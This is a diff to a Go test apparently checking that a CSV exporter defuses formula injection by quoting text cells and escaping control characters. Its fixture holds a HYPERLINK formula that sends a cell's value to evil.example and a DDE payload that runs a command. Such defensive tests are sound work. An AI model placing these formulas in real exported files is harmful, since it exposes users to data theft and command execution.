@@ -49,7 +49,8 @@ func TestCSVFormulaLike(t *testing.T) {
 }
 
 // TestCSVRowNeutralizesEveryTextCell fills every text column with a formula
-// and checks each cell reads back as text that starts with a quote, while
+// and checks each cell reads back as text that starts with a quote (its
+// control characters written as \u+XXXX: none reaches a terminal), while
 // numeric columns (a negative one too) stay plain numbers.
 func TestCSVRowNeutralizesEveryTextCell(t *testing.T) {
 	const f = `=HYPERLINK("http://evil.example/?"&A1;"click")`
@@ -67,7 +68,7 @@ func TestCSVRowNeutralizesEveryTextCell(t *testing.T) {
 		t.Fatalf("not CSV: %v\n%s", err, buf.Bytes())
 	}
 	if diff := cmp.Diff([][]string{csvHeader, {
-		"7", "2025-01-02T03:04:05.000000006Z", "'@type", "'+kind", "'-id", "'" + f, "'\tses", "' =task", "'\rgrt", "'\nact", "'=trace", "'+span",
+		"7", "2025-01-02T03:04:05.000000006Z", "'@type", "'+kind", "'-id", "'" + f, `'\u+0009ses`, "' =task", `'\u+000Dgrt`, `'\u+000Aact`, "'=trace", "'+span",
 		"'@SUM(1+1)*cmd|' /C calc'!A0", "'-X", "'" + f, "'=allow", "'+code", "'@reason, \"quoted\"",
 		"200", "-5", "", "12", "'=prev", "'-hash",
 	}}, rows); diff != "" {
